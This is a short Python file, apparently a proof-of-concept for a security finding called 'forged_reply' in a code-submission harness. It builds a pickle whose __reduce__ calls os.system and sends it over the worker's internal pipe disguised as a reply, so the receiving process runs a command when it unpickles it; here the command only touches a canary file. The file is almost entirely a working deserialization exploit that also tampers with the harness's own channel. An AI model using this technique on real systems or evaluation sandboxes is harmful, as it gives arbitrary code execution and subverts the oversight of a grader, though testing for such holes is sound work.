"""Send a pickle that runs code when it is read."""
# finding: forged_reply
# says: a text where an array is due

import os
import pickle
import sys


def pipes():
    """The worker's own end of the pipes."""
    return sys.modules["served_files"].fetch.__self__


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /var/tmp/flowleague-canary",)


class SubmissionInterface:
    def generate_samples(self, n_samples):
        wire = sys.modules["wire"]
        bomb = pickle.dumps(Bomb())
        pipes().send(wire.pack(wire.TEXT, pipes().nonce, bomb))
